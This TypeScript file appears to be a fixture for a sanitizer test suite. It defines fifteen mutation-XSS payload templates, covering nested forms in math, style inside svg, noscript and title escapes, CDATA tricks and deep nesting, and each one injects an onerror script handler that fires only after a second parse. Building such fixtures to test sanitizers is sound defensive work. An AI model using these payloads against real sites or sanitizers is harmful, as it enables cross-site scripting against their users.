// Markup that is harmless when parsed once and an attack when it is serialized and parsed again. The control parses
// each twice, like a sanitizer that returns text.
import { family, markup } from "./payload.ts";

export const mutation = family("mutation", {
  "form-in-math": markup(
    ({ strike }) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="${strike}"></style>`,
  ),
  "style-in-svg": markup(
    ({ strike }) => `<svg></p><style><a id="</style><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>">`,
  ),
  "title-text": markup(
    ({ strike }) => `<title><a rel="</title><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></title>`,
  ),
  "comment-in-noscript": markup(
    ({ strike }) =>
      `<noscript><p title="</noscript><img src=data:, onerror=&quot;${strike}&quot;>"></noscript><img src="data:," onerror="${strike}">`,
  ),
  "table-in-math": markup(
    ({ strike }) =>
      `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;" src="data:," onerror="${strike}">`,
  ),
  "xmp-text": markup(
    ({ strike }) => `<xmp><p title="</xmp><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></xmp>`,
  ),
  "noembed-text": markup(
    ({ strike }) =>
      `<noembed><p title="</noembed><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></noembed>`,
  ),
  "textarea-text": markup(
    ({ strike }) =>
      `<textarea><p title="</textarea><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></textarea>`,
  ),
  "iframe-text": markup(
    ({ strike }) =>
      `<iframe><p title="</iframe><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></iframe>`,
  ),
  "nested-forms": markup(
    ({ strike }) =>
      `<form><div></form><form><svg><p><style><g title="</style><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>">`,
  ),
  "annotation-nesting": markup(
    ({ strike }) =>
      `<math><annotation-xml encoding="text/html"><style><img src="</style><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></annotation-xml></math>`,
  ),
  "desc-in-svg": markup(
    ({ strike }) =>
      `<svg><desc><noscript><img src="</noscript><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></desc></svg>`,
  ),
  "backtick-attribute": markup(({ strike }) => `<img alt="\`x\`onerror=1//" src="data:," onerror="${strike}">`),
  "nul-in-tag": markup(({ strike }) => `<i\u{FFFD}mg><img\u000Csrc="data:,"\u000Conerror="${strike}">`),
  "deep-nesting": markup(
    ({ strike }) => `${"<div>".repeat(520)}<img src="data:," onerror="${strike}">${"</div>".repeat(520)}`,
  ),
});
